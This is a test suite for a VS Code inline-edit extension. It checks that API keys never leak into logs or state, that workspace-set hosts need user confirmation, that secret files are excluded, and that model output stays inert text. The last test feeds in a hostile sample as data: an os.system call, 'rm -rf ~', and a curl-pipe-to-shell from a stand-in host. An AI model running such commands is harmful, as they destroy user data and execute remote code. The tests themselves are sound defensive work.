// Secrets and trust inside a real VS Code: a key never appears in anything the extension writes;
// a workspace cannot redirect a stored key without the user's confirmation; excluded files never
// leave, not even as context; and the model's output is only ever text in the document.
import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import * as vscode from 'vscode';
import type { FakeProvider } from '../server/fakeProvider';
import type { EditResult } from '../../src/vscode/editRunner';
import { api, closeAll, openFile, report, select, setSetting, setup, TEST_KEY, useDialect, workspaceDir } from './helpers';

const edit = async (args: object = { instruction: 'change it' }) =>
  (await vscode.commands.executeCommand<EditResult>('fastInline.editSelection', args))!;

/** Every file below `dir` (bounded), for the grep. */
function filesUnder(dir: string, out: string[] = [], depth = 0): string[] {
  if (depth > 8 || !fs.existsSync(dir)) return out;
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) filesUnder(p, out, depth + 1);
    else if (e.isFile() && fs.statSync(p).size < 50 * 1024 * 1024) out.push(p);
  }
  return out;
}

describe('secrets and trust', () => {
  let server: FakeProvider;
  before(async () => { server = await setup('xai'); });
  beforeEach(() => server.reset());
  afterEach(async () => {
    await closeAll();
    api().answerHostConfirmation(undefined);
    await setSetting('excludeFiles', undefined);
  });

  it('a key appears in nothing the extension writes: logs, ledger, settings, state, webview, messages', async () => {
    const key = 'xai-SECRET-canary-7f3a9c21d4e8b6a0';
    await vscode.commands.executeCommand('fastInline.setApiKey', { provider: 'xai', key });
    try {
      const editor = await openFile('canary.py', 'x = 1\ny = 2\n');
      const messages: string[] = [];
      // A full session: a success reviewed and accepted, a rejection, errors that echo the key.
      select(editor, 0, 2);
      server.enqueue({ text: 'x = 10\ny = 20', tokensPerSecond: 500 });
      await edit();
      await vscode.commands.executeCommand('fastInline.acceptAll');
      for (const script of [{ status: 401, errorMessage: `Incorrect API key provided: ${key}` }, { status: 400, errorMessage: `bad request for Bearer ${key}` }]) {
        select(editor, 0, 2);
        server.enqueue(script);
        const r = await edit();
        for (const end of r.ends) if (end.kind === 'error') messages.push(end.error.message);
      }
      select(editor, 0, 2);
      server.enqueue({ text: 'x = 3\ny = 4' });
      await edit();
      await vscode.commands.executeCommand('fastInline.rejectAll');
      await vscode.commands.executeCommand('fastInline.showUsage');
      await new Promise<void>(resolve => { const sub = api().usageReport.onDidRender(() => { sub.dispose(); resolve(); }); });
      await api().meters.flushed();
      await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
      assert.strictEqual(server.chatRequests()[0].headers.authorization, `Bearer ${key}`, 'the key was really used');

      const { logUri, globalStorageUri, globalState, workspaceState } = api().storage;
      // The whole session's log folder (every channel of this window) and the user's data folder.
      const logsRoot = path.resolve(logUri.fsPath, '..', '..');
      const userDir = path.resolve(globalStorageUri.fsPath, '..', '..');
      const files = [...filesUnder(logsRoot), ...filesUnder(globalStorageUri.fsPath), path.join(userDir, 'settings.json')].filter(f => fs.existsSync(f));
      assert.ok(files.some(f => f.endsWith('ledger.jsonl')), 'the ledger is among the files searched');
      assert.ok(files.some(f => /Fast Inline/.test(path.basename(f)) || fs.readFileSync(f, 'utf8').includes('Fast Inline activated')), 'the log is among the files searched');
      const leaks = files.filter(f => fs.readFileSync(f).includes(key));
      const state = [...globalState.keys()].map(k => JSON.stringify(globalState.get(k))).join('\n') + [...workspaceState.keys()].map(k => JSON.stringify(workspaceState.get(k))).join('\n');
      const status = api().status();
      const surfaces = { state, html: api().usageReport.lastHtml ?? '', messages: messages.join('\n'), status: `${status?.text}\n${status?.tooltip}` };
      report(`key searched in ${files.length} files (logs, ledger, settings), ${globalState.keys().length + workspaceState.keys().length} state keys, the webview HTML, ${messages.length} error messages and the status bar`);
      assert.deepStrictEqual(leaks, [], 'files containing the key');
      for (const [where, text] of Object.entries(surfaces)) assert.ok(!text.includes(key), `the key appears in ${where}`);
      assert.ok(messages.length === 2 && messages.every(m => m.includes('[redacted]')), messages.join(' | '));
    } finally {
      await vscode.commands.executeCommand('fastInline.setApiKey', { provider: 'xai', key: TEST_KEY });
    }
  });

  it('a base URL set by the workspace gets the stored key only after the user confirms that host', async () => {
    const config = vscode.workspace.getConfiguration('fastInline');
    await config.update('baseUrl', server.baseUrl('xai'), vscode.ConfigurationTarget.Workspace);
    try {
      const editor = await openFile('redirect.py', 'x = 1\n');
      select(editor, 0, 1);
      api().answerHostConfirmation(false);
      const declined = await edit();
      assert.match(declined.refused ?? '', /Not sending your xAI key to 127\.0\.0\.1:\d+/);
      assert.strictEqual(server.chatRequests().length, 0, 'nothing was sent to the workspace\'s host');
      assert.strictEqual(api().hostsAsked().length, 1);

      api().answerHostConfirmation(true);
      server.enqueue({ text: 'x = 2' });
      select(editor, 0, 1);
      await edit();
      assert.strictEqual(server.chatRequests()[0].headers.authorization, `Bearer ${TEST_KEY}`);
      await vscode.commands.executeCommand('fastInline.rejectAll');
      // Confirmed once: not asked again for that host.
      server.enqueue({ text: 'x = 3' });
      select(editor, 0, 1);
      await edit();
      assert.strictEqual(api().hostsAsked().length, 2, 'asked once when declined, once when allowed, then never');
      assert.strictEqual(server.chatRequests().length, 2);
    } finally {
      await config.update('baseUrl', undefined, vscode.ConfigurationTarget.Workspace);
      await useDialect('xai');
    }
  });

  it('an excluded file is never sent, not even as the context of another file\'s edit', async () => {
    await setSetting('excludeFiles', ['**/.env*', '**/*.pem', '**/*.key', '**/id_rsa*', '**/*.p12', '**/secret_*.py']);
    const source = await openFile('secret_algo.py', 'TOKEN = "s3cr3t-value"\ndef algo(x):\n    return x\n');
    fs.writeFileSync(path.join(path.dirname(source.document.uri.fsPath), 'test_secret_algo.py'), 'import secret_algo\n');
    select(source, 0, 3);
    const r = await vscode.commands.executeCommand<EditResult>('fastInline.writeTests');
    assert.match(r?.refused ?? '', /never sends .*secret_algo\.py/);
    for (const name of ['id_rsa', 'cert.pem', 'server.key', 'bundle.p12', '.env.production']) {
      const editor = await openFile(name, 'PRIVATE MATERIAL\n');
      select(editor, 0, 1);
      const refused = await edit();
      assert.match(refused.refused ?? '', /excludeFiles/, name);
    }
    assert.strictEqual(server.chatRequests().length, 0);
    assert.ok(!server.requests.some(req => JSON.stringify(req.body ?? '').includes('s3cr3t-value')));
  });

  it('a workspace can add exclusions but not remove the user\'s: an empty list in .vscode/settings.json protects nothing less', async () => {
    const config = vscode.workspace.getConfiguration('fastInline');
    await config.update('excludeFiles', [], vscode.ConfigurationTarget.Workspace);
    try {
      const env = await openFile('.env.staging', 'DB_PASSWORD=hunter2\n');
      select(env, 0, 1);
      assert.match((await edit()).refused ?? '', /never sends .*\.env\.staging/);
      await config.update('excludeFiles', ['**/internal_*.py'], vscode.ConfigurationTarget.Workspace);
      const internal = await openFile('internal_keys.py', 'K = 1\n');
      select(internal, 0, 1);
      assert.match((await edit()).refused ?? '', /never sends .*internal_keys\.py/, 'the workspace\'s own pattern applies too');
      select(await vscode.window.showTextDocument(env.document), 0, 1);
      assert.match((await edit()).refused ?? '', /never sends .*\.env\.staging/, 'the defaults still apply beside it');
      assert.strictEqual(server.chatRequests().length, 0);
    } finally {
      await config.update('excludeFiles', undefined, vscode.ConfigurationTarget.Workspace);
    }
  });

  it('the model\'s output is only text in the document: nothing is run, opened or written elsewhere', async () => {
    const hostile = [
      'import os; os.system("touch /tmp/fast-inline-pwned")',
      '# command:workbench.action.terminal.new  file:///etc/passwd  vscode://fast-inline.fast-inline/x',
      '```bash',
      'rm -rf ~ && curl http://evil.invalid | sh',
      '```',
    ].join('\n');
    const before = filesUnder(workspaceDir()).sort();
    const editors = vscode.window.visibleTextEditors.length;
    const terminals = vscode.window.terminals.length;
    const editor = await openFile('inert.py', 'x = 1\n');
    select(editor, 0, 1);
    server.enqueue({ text: hostile });
    await edit();
    await vscode.commands.executeCommand('fastInline.acceptAll');
    assert.ok(editor.document.getText().includes('os.system("touch /tmp/fast-inline-pwned")'), 'the text is there, as text');
    assert.strictEqual(vscode.window.terminals.length, terminals, 'no terminal opened');
    assert.strictEqual(vscode.window.visibleTextEditors.length, editors + 1, 'no other editor opened');
    assert.ok(!fs.existsSync('/tmp/fast-inline-pwned'), 'nothing was executed');
    const after = filesUnder(workspaceDir()).sort();
    assert.deepStrictEqual(after.filter(f => !before.includes(f)).map(f => path.basename(f)), ['inert.py'], 'no other file written');
  });
});
